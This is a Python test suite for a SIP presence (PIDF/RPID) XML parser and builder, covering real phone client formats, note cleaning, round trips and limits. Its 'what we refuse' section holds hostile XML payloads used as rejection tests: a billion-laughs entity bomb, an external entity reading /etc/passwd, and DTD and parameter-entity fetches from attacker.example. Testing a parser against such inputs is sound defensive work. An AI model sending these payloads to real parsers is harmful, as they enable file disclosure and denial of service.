"""PIDF/RPID presence documents (RFC 3863, RFC 4480): what phones send, what we
build, and what a hostile peer cannot make the parser do."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from teleoffice.sip.pidf import (
    DND_ACTIVITY,
    MAX_DEPTH,
    MAX_NOTE,
    MAX_SIZE,
    PIDF_NS,
    PRESENCE_STATES,
    RPID_ACTIVITIES,
    PersonInfo,
    PidfError,
    PresenceDocument,
    PresenceState,
    PresenceTuple,
    build_pidf,
    clean_note,
    document_for,
    parse_pidf,
    presence_of,
)

HEAD = (
    '<presence xmlns="urn:ietf:params:xml:ns:pidf"'
    ' xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"'
    ' xmlns:rpid="urn:ietf:params:xml:ns:pidf:rpid" entity="sip:201@pbx.example">'
)


def pidf(body: str, head: str = HEAD) -> bytes:
    return (head + body + "</presence>").encode()


# -- what clients send -------------------------------------------------------------------

# The shape baresip's presence module PUBLISHes (modules/presence/publisher.c):
# CRLF lines, standalone="no", the person first with empty activities.
BARESIP_OPEN = (
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\r\n'
    '<presence xmlns="urn:ietf:params:xml:ns:pidf"\r\n'
    '    xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"\r\n'
    '    xmlns:rpid="urn:ietf:params:xml:ns:pidf:rpid"\r\n'
    '    entity="sip:202@pbx.example">\r\n'
    '  <dm:person id="p77"><rpid:activities/></dm:person>\r\n'
    '  <tuple id="t12">\r\n'
    "    <status>\r\n"
    "      <basic>{basic}</basic>\r\n"
    "    </status>\r\n"
    "    <contact>sip:202@pbx.example</contact>\r\n"
    "  </tuple>\r\n"
    "</presence>\r\n"
)


def test_baresip_open_and_closed() -> None:
    doc = parse_pidf(BARESIP_OPEN.format(basic="open").encode())
    assert doc == PresenceDocument(
        entity="sip:202@pbx.example",
        tuples=(PresenceTuple("t12", "open", "sip:202@pbx.example", None),),
        person=PersonInfo(frozenset(), None),
    )
    assert presence_of(doc) == ("available", None)
    closed = parse_pidf(BARESIP_OPEN.format(basic="closed").encode())
    assert presence_of(closed) == ("offline", None)


def test_baresip_unknown_basic_before_registering_says_nothing() -> None:
    doc = parse_pidf(BARESIP_OPEN.format(basic="unknown").encode())
    assert doc.tuples == ()
    assert presence_of(doc) == ("offline", None)


# The shape liblinphone writes (linphone_presence_model_to_xml): an indented
# document, tuple with contact priority and timestamp, a dm:person with RPID
# activities (an activity may carry a description as text), a dm:note in a
# language and a timestamp inside the person.
LINPHONE = """<?xml version="1.0" encoding="UTF-8"?>
<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"
 xmlns:rpid="urn:ietf:params:xml:ns:pidf:rpid" entity="sip:alice@pbx.example">
 <tuple id="k3x9q">
  <status>
   <basic>{basic}</basic>
  </status>
  <contact priority="0.8">sip:alice@pbx.example</contact>
  <timestamp>2026-05-09T07:35:25Z</timestamp>
 </tuple>
 <dm:person id="zq0a1">
  <rpid:activities>
   {activity}
  </rpid:activities>
  <dm:note xml:lang="fr">Partie déjeuner, de retour à 14 h</dm:note>
  <timestamp>2026-05-09T07:35:25Z</timestamp>
 </dm:person>
</presence>
"""


@pytest.mark.parametrize(
    ("basic", "activity", "state"),
    [
        ("open", "<rpid:away/>", "away"),
        ("open", "<rpid:lunch/>", "away"),  # linphone's non-RFC name for a meal
        ("open", "<rpid:busy>in a rush</rpid:busy>", "busy"),
        ("open", "<rpid:on-the-phone/>", "busy"),
        ("open", "<rpid:vacation/>", "away"),
        # liblinphone's consolidated presence: closed with an activity is DND.
        ("closed", "<rpid:busy/>", "dnd"),
        ("closed", "<rpid:meeting/>", "dnd"),
        ("open", "<rpid:working/>", "available"),
        ("closed", "<rpid:other>Do Not Disturb</rpid:other>", "dnd"),
        ("open", "<rpid:other>watching the match</rpid:other>", "available"),
    ],
)
def test_linphone_activities(basic: str, activity: str, state: PresenceState) -> None:
    doc = parse_pidf(LINPHONE.format(basic=basic, activity=activity).encode())
    assert doc.entity == "sip:alice@pbx.example"
    assert doc.tuples == (PresenceTuple("k3x9q", basic, "sip:alice@pbx.example", None),)  # type: ignore[arg-type]
    assert presence_of(doc) == (state, "Partie déjeuner, de retour à 14 h")


def test_linphone_lunch_is_read_as_meal() -> None:
    doc = parse_pidf(LINPHONE.format(basic="open", activity="<rpid:lunch/>").encode())
    assert doc.person is not None
    assert doc.person.activities == frozenset({"meal"})


def test_linphone_activities_note_and_document_note_are_fallbacks() -> None:
    only_activity_note = pidf(
        '<tuple id="a"><status><basic>open</basic></status></tuple>'
        '<dm:person id="p"><rpid:activities><rpid:note>On the road</rpid:note>'
        "<rpid:travel/></rpid:activities></dm:person>"
    )
    assert presence_of(parse_pidf(only_activity_note)) == ("away", "On the road")
    document_note = pidf(
        '<tuple id="a"><status><basic>open</basic></status></tuple><note>Back at 3</note>'
    )
    doc = parse_pidf(document_note)
    assert doc.person == PersonInfo(frozenset(), "Back at 3")
    assert presence_of(doc) == ("available", "Back at 3")


def test_zoiper_latin1_declaration_with_single_quotes() -> None:
    # FreeSWITCH and Zoiper declare ISO-8859-1 and quote attributes with '.
    body = (
        "<?xml version='1.0' encoding='ISO-8859-1'?>\n"
        "<presence xmlns='urn:ietf:params:xml:ns:pidf'"
        " xmlns:dm='urn:ietf:params:xml:ns:pidf:data-model'"
        " xmlns:rpid='urn:ietf:params:xml:ns:pidf:rpid'"
        " xmlns:c='urn:ietf:params:xml:ns:pidf:cipid' entity='sip:1000@pbx.example'>\n"
        " <tuple id='t6a5ed77e'><status><basic>open</basic></status></tuple>\n"
        " <dm:person id='p06360c4a'><rpid:activities><rpid:on-the-phone/></rpid:activities>\n"
        "  <dm:note>Au caf\xe9</dm:note></dm:person>\n"
        "</presence>"
    ).encode("latin-1")
    assert presence_of(parse_pidf(body)) == ("busy", "Au café")


def test_tuple_note_only() -> None:
    body = pidf('<tuple id="1000"><status><basic>open</basic></status><note>Online</note></tuple>')
    doc = parse_pidf(body)
    assert doc.tuples == (PresenceTuple("1000", "open", None, "Online"),)
    assert doc.person is None
    assert presence_of(doc) == ("available", "Online")


# In the shape of RFC 3863's extended example: two tuples, an unknown IM
# extension and a private one in the status, notes in two languages, a timestamp
# and a note for the whole document.
RFC3863_SHAPE = """<?xml version="1.0" encoding="UTF-8"?>
<impp:presence xmlns:impp="urn:ietf:params:xml:ns:pidf"
    xmlns:im="urn:ietf:params:xml:ns:pidf:im"
    xmlns:myex="http://id.example.com/presence/"
    entity="pres:someone@example.com">
  <impp:tuple id="bs35r9">
    <impp:status>
      <impp:basic>open</impp:basic>
      <im:im>busy</im:im>
      <myex:location>home</myex:location>
    </impp:status>
    <impp:contact priority="0.8">im:someone@mobilecarrier.net</impp:contact>
    <impp:note xml:lang="en">Don't Disturb Please!</impp:note>
    <impp:note xml:lang="fr">Ne dérangez pas, s'il vous plaît</impp:note>
    <impp:timestamp>2001-10-27T16:49:29Z</impp:timestamp>
  </impp:tuple>
  <impp:tuple id="eg92n8">
    <impp:status>
      <impp:basic>closed</impp:basic>
    </impp:status>
    <impp:contact priority="1.0">mailto:someone@example.com</impp:contact>
  </impp:tuple>
  <impp:note>I'll be in Tokyo next week</impp:note>
</impp:presence>
"""


def test_several_tuples_prefixed_namespace_and_extensions() -> None:
    doc = parse_pidf(RFC3863_SHAPE.encode())
    assert doc == PresenceDocument(
        entity="pres:someone@example.com",
        tuples=(
            PresenceTuple(
                "bs35r9", "open", "im:someone@mobilecarrier.net", "Don't Disturb Please!"
            ),
            PresenceTuple("eg92n8", "closed", "mailto:someone@example.com", None),
        ),
        person=PersonInfo(frozenset(), "I'll be in Tokyo next week"),
    )
    assert presence_of(doc) == ("available", "I'll be in Tokyo next week")


def test_any_prefix_for_any_namespace() -> None:
    body = (
        b'<p:presence xmlns:p="urn:ietf:params:xml:ns:pidf"'
        b' xmlns:model="urn:ietf:params:xml:ns:pidf:data-model"'
        b' xmlns="urn:ietf:params:xml:ns:pidf:rpid" entity="sip:a@b">'
        b'<p:tuple id="x"><p:status><p:basic>open</p:basic></p:status></p:tuple>'
        b'<model:person id="y"><activities><away/></activities>'
        b"<model:note>brb</model:note></model:person></p:presence>"
    )
    assert presence_of(parse_pidf(body)) == ("away", "brb")


def test_note_without_language_wins_else_the_first() -> None:
    with_default = pidf(
        '<tuple id="a"><status><basic>open</basic></status>'
        '<note xml:lang="de">Mittagspause</note><note>Lunch</note>'
        '<note xml:lang="en">Lunch break</note></tuple>'
    )
    assert parse_pidf(with_default).tuples[0].note == "Lunch"
    all_tagged = pidf(
        '<tuple id="a"><status><basic>open</basic></status>'
        '<note xml:lang="ja">昼休み</note><note xml:lang="en">Lunch</note></tuple>'
    )
    assert parse_pidf(all_tagged).tuples[0].note == "昼休み"
    empty_first = pidf(
        '<tuple id="a"><status><basic>open</basic></status><note>  </note><note>x</note></tuple>'
    )
    assert parse_pidf(empty_first).tuples[0].note == "x"


def test_unknown_extensions_are_ignored() -> None:
    body = pidf(
        '<tuple id="a" xmlns:caps="urn:ietf:params:xml:ns:pidf:caps">'
        "<status><basic>open</basic><caps:servcaps><caps:audio>true</caps:audio>"
        "</caps:servcaps></status><x:y xmlns:x='urn:x'>z</x:y></tuple>"
        '<dm:device id="d"><dm:deviceID>urn:uuid:1</dm:deviceID></dm:device>'
        '<dm:person id="p"><rpid:activities><rpid:away/><x:nap xmlns:x="urn:x"/>'
        "<rpid:daydreaming/></rpid:activities><rpid:mood><rpid:happy/></rpid:mood>"
        "</dm:person>"
    )
    doc = parse_pidf(body)
    assert doc.tuples == (PresenceTuple("a", "open", None, None),)
    assert doc.person == PersonInfo(frozenset({"away"}), None)


def test_old_rpid_person_element() -> None:
    body = pidf(
        '<tuple id="a"><status><basic>open</basic></status></tuple>'
        '<rpid:person id="p"><rpid:activities><rpid:busy/></rpid:activities>'
        "<rpid:note>Call later</rpid:note></rpid:person>"
    )
    assert presence_of(parse_pidf(body)) == ("busy", "Call later")


def test_basic_is_read_leniently() -> None:
    body = pidf('<tuple id="a"><status><basic> Open\n</basic></status></tuple>')
    assert parse_pidf(body).tuples[0].basic == "open"


def test_notes_are_cleaned_and_bounded() -> None:
    long_note = "é" * (MAX_NOTE + 50)
    body = pidf(
        '<tuple id="a"><status><basic>open</basic></status>'
        f"<note>  two\n\tlines&#x85;and\u2028more\x7f  </note></tuple>"
        f'<dm:person id="p"><dm:note>{long_note}</dm:note></dm:person>'
    )
    doc = parse_pidf(body)
    assert doc.tuples[0].note == "two lines and more"
    assert doc.person is not None
    assert doc.person.note == "é" * MAX_NOTE


# -- clean_note ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        (None, None),
        ("", None),
        (" \n\t ", None),
        ("In a meeting", "In a meeting"),
        ("a\r\nb", "a b"),
        ("bell\x07 and nul\x00", "bell and nul"),
        ("C1\x9bcontrol", "C1control"),
        ("lone \ud800 surrogate", "lone surrogate"),
        ("في اجتماع", "في اجتماع"),  # Arabic, right to left
        ("👩\u200d💻 coding", "👩\u200d💻 coding"),  # zero-width joiner kept
        ("x" * 500, "x" * MAX_NOTE),
        ("x" * (MAX_NOTE - 1) + "  y", "x" * (MAX_NOTE - 1)),
    ],
)
def test_clean_note(raw: str | None, clean: str | None) -> None:
    assert clean_note(raw) == clean


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_clean_note_is_idempotent_bounded_and_printable(text: str) -> None:
    cleaned = clean_note(text)
    if cleaned is None:
        return
    assert clean_note(cleaned) == cleaned
    assert 0 < len(cleaned) <= MAX_NOTE
    assert cleaned == cleaned.strip()
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]", cleaned)
    assert "  " not in cleaned


# -- what we build -----------------------------------------------------------------------


@pytest.mark.parametrize("state", PRESENCE_STATES)
@pytest.mark.parametrize("on_the_phone", [False, True])
@pytest.mark.parametrize("note", [None, 'Back at 15:00 <soon> & "later"', "  \n "])
def test_document_for_round_trips_and_inverts_presence_of(
    state: PresenceState, on_the_phone: bool, note: str | None
) -> None:
    doc = document_for("sip:201@pbx.example", state, note, on_the_phone=on_the_phone)
    body = build_pidf(doc)
    assert parse_pidf(body) == doc
    expected = state if not on_the_phone or state in ("dnd", "offline") else "busy"
    assert presence_of(parse_pidf(body)) == (expected, clean_note(note))


def test_what_baresip_greps_for() -> None:
    # baresip's subscriber uses regular expressions, not an XML parser.
    away = build_pidf(document_for("sip:201@pbx.example", "away", None))
    assert re.search(rb"<basic>open</basic>", away)
    assert b"<rpid:away/>" in away
    busy = build_pidf(document_for("sip:201@pbx.example", "available", None, on_the_phone=True))
    assert b"<rpid:on-the-phone/>" in busy
    dnd = build_pidf(document_for("sip:201@pbx.example", "dnd", None))
    assert b"<basic>closed</basic>" in dnd
    assert b"<rpid:busy/>" in dnd
    assert b"<rpid:other>do-not-disturb</rpid:other>" in dnd
    offline = build_pidf(document_for("sip:201@pbx.example", "offline", None, on_the_phone=True))
    assert b"<basic>closed</basic>" in offline
    assert b"rpid:on-the-phone" not in offline


def test_built_document_is_plain_pidf_for_any_xml_reader() -> None:
    body = build_pidf(document_for("sip:201@pbx.example", "busy", "Call me <later>"))
    root = ET.fromstring(body)
    assert root.tag == f"{{{PIDF_NS}}}presence"
    assert root.get("entity") == "sip:201@pbx.example"
    ns = {"p": PIDF_NS, "dm": "urn:ietf:params:xml:ns:pidf:data-model"}
    assert root.findtext("p:tuple/p:status/p:basic", namespaces=ns) == "open"
    assert root.findtext("dm:person/dm:note", namespaces=ns) == "Call me <later>"
    assert root.findtext("p:tuple/p:contact", namespaces=ns) == "sip:201@pbx.example"


def test_document_for_pres_uri_has_no_contact() -> None:
    doc = document_for("pres:alice@pbx.example", "available", None)
    assert doc.tuples[0].contact is None
    assert parse_pidf(build_pidf(doc)) == doc


def test_person_id_never_collides_with_tuple_ids() -> None:
    doc = PresenceDocument(
        entity="sip:a@b",
        tuples=(PresenceTuple("person", "open"), PresenceTuple("person-2", "closed")),
        person=PersonInfo(frozenset({"away"})),
    )
    root = ET.fromstring(build_pidf(doc))
    ids = [element.get("id") for element in root.iter() if element.get("id")]
    assert len(ids) == len(set(ids)) == 3


@pytest.mark.parametrize(
    "doc",
    [
        PresenceDocument(entity=""),
        PresenceDocument(entity="sip:a b@c"),
        PresenceDocument(entity="sip:a@b", tuples=(PresenceTuple("", "open"),)),
        PresenceDocument(entity="sip:a@b", tuples=(PresenceTuple("a", "maybe"),)),  # type: ignore[arg-type]
        PresenceDocument(
            entity="sip:a@b", tuples=(PresenceTuple("a", "open"), PresenceTuple("a", "closed"))
        ),
        PresenceDocument(entity="sip:a@b", tuples=(PresenceTuple("a", "open", "sip:x y"),)),
        PresenceDocument(entity="sip:a@b", tuples=(PresenceTuple("a", "open", None, " pad "),)),
        PresenceDocument(entity="sip:a@b", tuples=(PresenceTuple("a", "open", None, "a\nb"),)),
        PresenceDocument(entity="sip:a@b", person=PersonInfo(frozenset({"napping"}))),
        PresenceDocument(entity="sip:a@b", person=PersonInfo(note="x" * (MAX_NOTE + 1))),
        PresenceDocument(entity="sip:a@b", person=PersonInfo(note="")),
    ],
)
def test_build_refuses_what_would_not_round_trip(doc: PresenceDocument) -> None:
    with pytest.raises(PidfError):
        build_pidf(doc)


def test_document_for_refuses_unknown_state() -> None:
    with pytest.raises(PidfError):
        document_for("sip:a@b", "invisible", None)  # type: ignore[arg-type]


# -- what we refuse -----------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE presence [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@b">
 <tuple id="t"><status><basic>open</basic></status><note>&lol4;</note></tuple>
</presence>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@b">
 <tuple id="t"><status><basic>open</basic></status><note>&secret;</note></tuple>
</presence>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE presence SYSTEM "http://attacker.example/pidf.dtd">
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@b"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@b"/>"""

UNDEFINED_ENTITY = pidf(
    '<tuple id="t"><status><basic>open</basic></status><note>&lol;</note></tuple>'
)

VALID = pidf('<tuple id="t"><status><basic>open</basic></status></tuple>')


def nested(depth: int) -> bytes:
    """A valid document whose deepest element sits at `depth` (presence is 1)."""
    inner = depth - 3  # presence > tuple > status, then extensions beside basic
    ext = "<x:e>" * inner + "</x:e>" * inner
    return pidf(f'<tuple id="t" xmlns:x="urn:x"><status><basic>open</basic>{ext}</status></tuple>')


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "empty"),
        (b"  \r\n", "empty"),
        (BILLION_LAUGHS, "DTD"),
        (EXTERNAL_ENTITY, "DTD"),
        (EXTERNAL_DTD, "DTD"),
        (PARAMETER_ENTITY, "DTD"),
        (UNDEFINED_ENTITY, "malformed"),
        (VALID + b" " * (MAX_SIZE - len(VALID) + 1), "over the limit"),
        (b'<presence entity="sip:a@b"/>', "not a PIDF document"),
        (b'<presence xmlns="urn:ietf:params:xml:ns:pidf:rpid" entity="a"/>', "not a PIDF"),
        (b'<presence xmlns="urn:ietf:params:xml:ns:dialog-info" entity="a"/>', "not a PIDF"),
        (b'<tuple xmlns="urn:ietf:params:xml:ns:pidf" id="t"/>', "not a PIDF document"),
        (b'<presence xmlns="urn:ietf:params:xml:ns:pidf"/>', "entity"),
        (b'<presence xmlns="urn:ietf:params:xml:ns:pidf" entity=" "/>', "entity"),
        (b'<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a b"/>', "entity"),
        (VALID.replace(b"</tuple>", "<note>caf\xe9</note></tuple>".encode("latin-1")), "UTF-8"),
        (b"\xff\xfe" + VALID.decode().encode("utf-16-le"), "UTF-8"),
        (b'<?xml version="1.0" encoding="UTF-16"?>' + VALID, "not supported"),
        (b'<?xml version="1.0" encoding="x-klingon"?>' + VALID, "not supported"),
        (b"\xef\xbb\xbf<?xml version='1.0' encoding='iso-8859-1'?>" + VALID, "byte order mark"),
        (b"<?xml version='1.0' ", "declaration"),
        (VALID[:-5], "malformed"),
        (VALID + b"<trailing/>", "malformed"),
        (b"\x00" * 10, "malformed"),
        (nested(MAX_DEPTH + 1), "deeper"),
        (b"<a>" * 20000, "deeper"),
        (pidf("<tuple><status><basic>open</basic></status></tuple>"), "id attribute"),
        (pidf('<tuple id=""><status><basic>open</basic></status></tuple>'), "tuple id"),
        (pidf('<tuple id="a"><status><basic>open</basic></status></tuple>' * 2), "duplicate"),
        (
            pidf(
                "".join(
                    f'<tuple id="t{n}"><status><basic>open</basic></status></tuple>'
                    for n in range(65)
                )
            ),
            "more than 64 tuples",
        ),
        (
            pidf(
                '<tuple id="a"><status><basic>open</basic></status>'
                "<contact>sip:a b</contact></tuple>"
            ),
            "contact",
        ),
        (
            pidf(
                '<tuple id="a"><status><basic>open</basic>'
                '<x:geo xmlns:x="urn:x" mustUnderstand="true"/></status></tuple>'
            ),
            "mustUnderstand",
        ),
        (
            pidf(
                '<tuple id="a"><status><basic>open</basic></status></tuple>'
                '<x:geo xmlns:x="urn:x" xmlns:p="urn:ietf:params:xml:ns:pidf"'
                ' p:mustUnderstand="1"/>'
            ),
            "mustUnderstand",
        ),
    ],
)
def test_refused(body: bytes, reason: str) -> None:
    with pytest.raises(PidfError, match=reason):
        parse_pidf(body)


def test_depth_limit_is_inclusive() -> None:
    assert parse_pidf(nested(MAX_DEPTH)).tuples[0].basic == "open"


def test_size_limit_is_inclusive() -> None:
    body = VALID + b" " * (MAX_SIZE - len(VALID))
    assert len(body) == MAX_SIZE
    assert parse_pidf(body).entity == "sip:201@pbx.example"


def test_utf8_byte_order_mark_is_accepted() -> None:
    assert parse_pidf(b"\xef\xbb\xbf" + VALID).tuples[0].id == "t"


def test_parser_takes_bytes_only() -> None:
    with pytest.raises(TypeError):
        parse_pidf(VALID.decode())  # type: ignore[arg-type]


# -- properties ---------------------------------------------------------------------------

_token = st.text(
    alphabet=st.characters(
        exclude_categories=["Cc", "Cs", "Zs", "Zl", "Zp"], exclude_characters="\ufffe\uffff"
    ),
    min_size=1,
    max_size=30,
).filter(lambda s: not any(ch.isspace() for ch in s))
_note = st.text(max_size=250).map(clean_note)
_tuples = st.lists(
    st.builds(
        PresenceTuple,
        id=_token,
        basic=st.sampled_from(["open", "closed"]),
        contact=st.none() | _token,
        note=_note,
    ),
    max_size=5,
    unique_by=lambda t: t.id,
).map(tuple)
_activities = st.frozensets(st.sampled_from(sorted(RPID_ACTIVITIES | {DND_ACTIVITY})))
_documents = st.builds(
    PresenceDocument,
    entity=_token,
    tuples=_tuples,
    person=st.none() | st.builds(PersonInfo, activities=_activities, note=_note),
)


@settings(max_examples=300, deadline=None)
@given(_documents)
def test_generated_documents_round_trip(doc: PresenceDocument) -> None:
    assert parse_pidf(build_pidf(doc)) == doc


@settings(max_examples=200, deadline=None)
@given(_token, st.sampled_from(PRESENCE_STATES), st.text(max_size=300), st.booleans())
def test_document_for_inverts_presence_of(
    entity: str, state: PresenceState, note: str, on_the_phone: bool
) -> None:
    doc = document_for(entity, state, note, on_the_phone=on_the_phone)
    expected = state if not on_the_phone or state in ("dnd", "offline") else "busy"
    assert presence_of(parse_pidf(build_pidf(doc))) == (expected, clean_note(note))


_NAMESPACES = [
    "urn:ietf:params:xml:ns:pidf",
    "urn:ietf:params:xml:ns:pidf:data-model",
    "urn:ietf:params:xml:ns:pidf:rpid",
    "urn:x",
]
# Which children an element usually has, and the prefix it usually carries (the
# root declares p, dm, r and x; the default namespace is usually PIDF's).
_CHILDREN = {
    "presence": ["tuple", "tuple", "person", "note"],
    "tuple": ["status", "contact", "note", "timestamp"],
    "status": ["basic", "basic", "other"],
    "person": ["activities", "note"],
    "activities": ["away", "busy", "other", "on-the-phone", "lunch", "note"],
}
_PREFIX = {"person": "dm:", "activities": "r:", "away": "r:", "busy": "r:", "other": "r:"}
_PREFIX |= {"on-the-phone": "r:", "lunch": "r:"}
_ATTRIBUTES = ["id", "id", "entity", "xml:lang", "mustUnderstand", "p:mustUnderstand"]
_words = st.sampled_from(["open", "closed", " open ", "dnd", "do not disturb", "t1", "é", ""])
# Raw "&", "<" or quotes, and character references XML forbids.
_bad_text = st.lists(
    st.sampled_from([*"ab &;<>\"'\n\té", "&amp;", "&#x85;", "&#0;"]), max_size=8
).map("".join)


@st.composite
def _element(draw: st.DrawFn, parent: str, depth: int, text: st.SearchStrategy[str]) -> str:
    usual = _CHILDREN.get(parent, ["note"])
    name = draw(st.sampled_from([*usual * 3, "presence", "note", "basic", "tuple"]))
    prefix = draw(st.sampled_from([_PREFIX.get(name, "")] * 36 + ["p:", "dm:", "x:", "nope:"]))
    attributes = draw(
        st.lists(
            st.tuples(st.sampled_from(_ATTRIBUTES), text), max_size=2, unique_by=lambda a: a[0]
        )
    )
    if name == "tuple" and draw(st.integers(0, 9)) > 0:
        attributes = [("id", f"t{depth}{draw(st.integers(0, 3))}")]
    rendered = "".join(f' {key}="{value}"' for key, value in attributes)
    children = draw(st.lists(_element(name, depth + 1, text), max_size=2)) if depth < 5 else []
    if name == "tuple" and draw(st.booleans()):
        children.insert(0, f"<status><basic>{draw(text)}</basic></status>")
    return f"<{prefix}{name}{rendered}>{draw(text)}{''.join(children)}</{prefix}{name}>"


@st.composite
def _xmlish(draw: st.DrawFn) -> bytes:
    """Random XML in PIDF's vocabulary, often well-formed and often a PIDF document."""
    usual = dict(zip(("p", "dm", "r", "x"), _NAMESPACES, strict=True))
    declarations = "".join(
        f' xmlns:{p}="{draw(st.sampled_from([namespace] * 6 + _NAMESPACES))}"'
        for p, namespace in usual.items()
    )
    default = draw(st.sampled_from([*_NAMESPACES[:1] * 6, *_NAMESPACES[1:]]))
    entity = draw(st.sampled_from([' entity="sip:a@b"'] * 6 + ["", ' entity=""']))
    text = draw(st.sampled_from([_words] * 3 + [st.one_of(_words, _bad_text)]))
    children = "".join(draw(st.lists(_element("presence", 1, text), max_size=3)))
    root = draw(st.sampled_from(["presence"] * 6 + ["p:presence", "dm:person"]))
    return f'<{root} xmlns="{default}"{declarations}{entity}>{children}</{root}>'.encode()


@settings(max_examples=400, deadline=None)
@given(
    st.one_of(
        st.binary(max_size=300),
        _xmlish(),
        st.tuples(_documents.map(build_pidf), st.integers(0, 2000), st.binary(max_size=4)).map(
            lambda t: t[0][: t[1]] + t[2] + t[0][t[1] :]
        ),
    )
)
def test_parse_raises_only_pidf_error(data: bytes) -> None:
    try:
        doc = parse_pidf(data)
    except PidfError:
        return
    state, note = presence_of(doc)
    assert state in PRESENCE_STATES
    assert note is None or note == clean_note(note)
